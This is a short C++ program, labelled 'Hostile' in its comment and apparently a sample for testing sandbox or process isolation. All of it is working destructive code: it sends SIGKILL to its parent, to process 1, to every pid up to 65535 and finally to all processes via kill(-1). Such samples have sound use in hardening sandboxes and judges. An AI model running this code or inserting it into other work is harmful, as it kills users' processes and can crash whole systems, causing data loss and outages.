// Hostile: kills whatever it can: every process it may signal, its parent,
// process 1, and every pid up to the kernel's limit.
#include <csignal>
#include <unistd.h>
int main()
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    for (pid_t p = 2; p < 65536; p++)
        if (p != getpid())
            kill(p, SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
